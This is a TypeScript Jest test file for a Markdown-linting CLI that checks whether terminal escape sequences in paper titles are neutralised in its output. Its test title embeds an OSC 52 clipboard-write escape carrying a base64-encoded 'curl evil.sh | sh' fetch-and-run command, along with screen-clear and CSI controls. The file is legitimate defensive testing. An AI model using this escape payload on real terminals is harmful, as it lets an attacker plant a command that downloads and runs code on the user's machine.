/**
 * The CLI with hostile or awkward files: terminal escapes in a title, `--fix` on links, read-only
 * and shared files, `--base` on a path outside the repository. Runs the bundled dist/cli.js.
 */
import { describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deltaStyleList } from './helpers.js';

const CLI = fileURLToPath(new URL('../dist/cli.js', import.meta.url));

function paperlint(args: string[], cwd?: string) {
  const result = spawnSync(process.env.PAPERLINT_NODE ?? process.execPath, [CLI, ...args], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

const scratch = () => mkdtempSync(join(tmpdir(), 'paperlint-cli-safety-'));

/** Anything a terminal would act on: C0 and C1 controls other than the line breaks we print. */
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('terminal output (item 8)', () => {
  // OSC 52 writes the clipboard, ESC[2J clears the screen, BEL ends an OSC, U+009B is a one-byte CSI.
  const title =
    'Clipboard \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 clear \u001b[2J csi \u009b31m bell \u0007';
  const list = () => {
    const file = join(scratch(), 'README.md');
    writeFileSync(
      file,
      deltaStyleList(
        `- ${title}, ACL 2023. ![](https://img.shields.io/badge/T-blue)\n\n  *A. Author*. [[pdf](https://arxiv.org/abs/2301.00001)]`,
      ),
    );
    return file;
  };

  it.each([['text'], ['github']])('keeps escapes from a title out of --format %s', (format) => {
    const { stdout } = paperlint(['--format', format, list()]);
    expect(stdout).toContain('title-format');
    expect(stdout).toContain('\\u001b]52;c;');
    expect(stdout).not.toMatch(TERMINAL_CONTROL);
  });
});
